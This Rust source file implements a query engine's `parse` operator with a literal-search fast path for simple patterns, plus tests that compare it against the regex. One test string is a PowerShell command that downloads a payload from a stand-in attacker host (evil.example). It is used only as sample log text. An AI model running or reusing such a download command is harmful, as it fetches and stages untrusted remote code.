//! The `parse` operator's columns (parse-operator): a pattern of kind=simple without flags is matched by literal
//! search; kind=regex, relaxed, flags and texts with a line break go through the pattern's regex.

use super::udf::{arg, groups::GroupSearch, row, strings::cached};
use datafusion::arrow::array::{Array, ArrayRef, Int64Array, StringArray};
use datafusion::common::Result as DfResult;
use std::sync::Arc;

/// A part of a `parse` pattern of kind=simple without flags, as [`parse_group_body`] matches it without the
/// regex: `*` and untyped or typed columns are lazy `(.*?)`, the last column with no text after it greedy
/// `(.*)`, text literal (adjacent texts merged by the binder).
#[derive(Debug, Clone, PartialEq)]
pub enum SimplePart {
    Lazy { capture: bool },
    Greedy,
    Text(String),
}

impl SimplePart {
    /// The plan as the binder writes it: a JSON array of `"*"`, `"c"` (lazy column), `"g"` (greedy column)
    /// and `"=TEXT"`.
    pub fn encode(parts: &[SimplePart]) -> String {
        let items: Vec<String> = parts
            .iter()
            .map(|p| match p {
                SimplePart::Lazy { capture: false } => "*".to_string(),
                SimplePart::Lazy { capture: true } => "c".to_string(),
                SimplePart::Greedy => "g".to_string(),
                SimplePart::Text(t) => format!("={t}"),
            })
            .collect();
        serde_json::to_string(&items).unwrap_or_default()
    }

    fn decode(plan: &str) -> Option<Vec<SimplePart>> {
        let items: Vec<String> = serde_json::from_str(plan).ok()?;
        items
            .into_iter()
            .map(|i| match i.as_str() {
                "*" => Some(SimplePart::Lazy { capture: false }),
                "c" => Some(SimplePart::Lazy { capture: true }),
                "g" => Some(SimplePart::Greedy),
                t => t.strip_prefix('=').map(|t| SimplePart::Text(t.to_string())),
            })
            .collect()
    }
}

/// Matches `text` (no newline in it) against a simple pattern as its regex `^...` would, filling `spans` with
/// group 0 (the match) and each column's byte range: every literal at its first occurrence after the previous
/// one (anchored when nothing lazy is before it); the lazy parts before a literal are empty except the last,
/// which spans up to it; at the end the greedy column takes the rest and lazy ones are empty. First
/// occurrences are what the regex's backtracking finds: when a literal is not found after one position it is
/// not found after any later one.
pub fn simple_match(parts: &[SimplePart], text: &str, spans: &mut Vec<(usize, usize)>) -> bool {
    spans.clear();
    spans.push((0, 0));
    let mut pos = 0;
    // since the last literal: whether a lazy or greedy part came, and the span slot of the latest part when it
    // captures (a capture starts empty at `pos`, which moves only at a literal: only that latest one grows)
    let mut lazy = false;
    let mut latest: Option<usize> = None;
    // the greedy column: the last column, with no literal after it
    let mut greedy = None;
    for p in parts {
        match p {
            SimplePart::Lazy { capture } => {
                lazy = true;
                latest = capture.then(|| {
                    spans.push((pos, pos));
                    spans.len() - 1
                });
            }
            SimplePart::Greedy => {
                lazy = true;
                spans.push((pos, pos));
                latest = Some(spans.len() - 1);
                greedy = latest;
            }
            SimplePart::Text(t) => {
                let rest = text.get(pos..).unwrap_or_default();
                let at = if lazy {
                    match memchr::memmem::find(rest.as_bytes(), t.as_bytes()) {
                        Some(i) => i,
                        None => return false,
                    }
                } else if rest.starts_with(t.as_str()) {
                    0
                } else {
                    return false;
                };
                if let Some(s) = latest.and_then(|s| spans.get_mut(s)) {
                    *s = (pos, pos + at);
                }
                (lazy, latest) = (false, None);
                pos += at + t.len();
            }
        }
    }
    let mut end = pos;
    if let Some(s) = greedy.and_then(|g| spans.get_mut(g)) {
        *s = (pos, text.len());
        end = text.len();
    }
    if let Some(s) = spans.first_mut() {
        *s = (0, end);
    }
    true
}

/// The `parse` operator's columns: `(regex, plan, group, text)`, the group's text, null when the pattern does
/// not match. A simple pattern (`plan`, see [`SimplePart`]) is matched by literal search on a text without a
/// newline (where the regex's `.` would stop); otherwise, and for kind=regex or flags (`plan` ""), the regex.
/// Capturing with the regex took two thirds of a `parse` query over registry values.
pub(in crate::functions) fn parse_group_body(arrays: &[ArrayRef], n: usize) -> DfResult<ArrayRef> {
    use datafusion::arrow::array::StringBuilder;
    let re = arg::<StringArray>(arrays, 0, "parse")?;
    let plan = arg::<StringArray>(arrays, 1, "parse")?;
    let g = arg::<Int64Array>(arrays, 2, "parse")?;
    let s = arg::<StringArray>(arrays, 3, "parse")?;
    let mut search = None;
    let mut decoded: Option<(String, Option<Vec<SimplePart>>)> = None;
    let mut spans = Vec::new();
    let mut out = StringBuilder::with_capacity(n, 0);
    for r in 0..n {
        let (rr, pr, gr, sr) = (row(re, r), row(plan, r), row(g, r), row(s, r));
        if re.is_null(rr) || g.is_null(gr) || s.is_null(sr) {
            out.append_null();
            continue;
        }
        let (text, group) = (s.value(sr), usize::try_from(g.value(gr)).unwrap_or(usize::MAX));
        let p = if plan.is_null(pr) { "" } else { plan.value(pr) };
        if decoded.as_ref().is_none_or(|(d, _)| d != p) {
            decoded = Some((p.to_string(), SimplePart::decode(p)));
        }
        let simple = decoded.as_ref().and_then(|(_, parts)| parts.as_deref());
        let v = match simple {
            Some(parts) if memchr::memchr(b'\n', text.as_bytes()).is_none() => {
                if simple_match(parts, text, &mut spans) {
                    spans.get(group).and_then(|(a, b)| text.get(*a..*b))
                } else {
                    None
                }
            }
            _ => cached(&mut search, re.value(rr), re.len() == 1, GroupSearch::compiled)?
                .group(text, group)
                .and_then(|(a, b)| text.get(a..b)),
        };
        match v {
            Some(v) => out.append_value(v),
            None => out.append_null(),
        }
    }
    Ok(Arc::new(out.finish()) as ArrayRef)
}

#[cfg(test)]
mod tests {
    use super::{simple_match, SimplePart};
    use SimplePart::{Greedy, Lazy, Text};

    /// The regex the binder writes for the same parts.
    fn regex_of(parts: &[SimplePart]) -> regex::Regex {
        let mut re = String::from("^");
        for p in parts {
            match p {
                Lazy { capture: false } => re.push_str("(?:.*?)"),
                Lazy { capture: true } => re.push_str("(.*?)"),
                Greedy => re.push_str("(.*)"),
                Text(t) => re.push_str(&regex::escape(t)),
            }
        }
        regex::Regex::new(&re).unwrap()
    }

    // Matching by literal search gives the regex's groups, for every pattern shape the binder writes (leading
    // text or star, adjacent lazy parts, greedy last column, a column at the very start or end, literals that
    // occur early in the wrong place) over texts that match, match partly, or not at all.
    #[test]
    fn literal_search_agrees_with_the_regex() {
        let c = Lazy { capture: true };
        let star = Lazy { capture: false };
        let t = |s: &str| Text(s.to_string());
        let patterns: Vec<Vec<SimplePart>> = vec![
            vec![star.clone(), t("://"), c.clone(), t("/"), c.clone(), t(" "), star.clone()],
            vec![star.clone(), t("://"), c.clone(), t("/"), Greedy],
            vec![t("Event "), c.clone(), t(": "), Greedy],
            vec![c.clone(), t("="), Greedy],
            vec![c.clone(), c.clone(), t("x")],
            vec![c.clone(), star.clone(), t("x"), c.clone()],
            vec![star.clone(), t("ab"), c.clone(), t("ab"), Greedy, star.clone()],
            vec![t("a"), c.clone()],
            vec![Greedy],
            vec![c.clone(), t(""), Greedy],
        ];
        let texts = [
            "powershell -c iwr https://evil.example/payload.ps1 -o x",
            "http://host/path",
            "http://host",
            "Event 4625: An account failed to log on",
            "Event : x",
            "key=value=more",
            "abx",
            "xxx",
            "ab1ab2ab3",
            "",
            "a",
            "été://ü/ö ä",
            "no match here",
        ];
        let mut spans = Vec::new();
        for parts in &patterns {
            let re = regex_of(parts);
            for text in texts {
                let want = re.captures(text);
                let got = simple_match(parts, text, &mut spans);
                assert_eq!(got, want.is_some(), "{parts:?} on {text:?}");
                if let Some(caps) = want {
                    for (g, span) in spans.iter().enumerate() {
                        let m = caps.get(g).map(|m| (m.start(), m.end()));
                        assert_eq!(Some(*span), m, "group {g} of {parts:?} on {text:?}");
                    }
                    assert_eq!(spans.len(), caps.len());
                }
            }
        }
    }

    #[test]
    fn plans_round_trip() {
        let parts = vec![Lazy { capture: false }, Text("=\"*".into()), Lazy { capture: true }, Greedy];
        assert_eq!(SimplePart::decode(&SimplePart::encode(&parts)), Some(parts));
        assert_eq!(SimplePart::decode(""), None);
    }
}
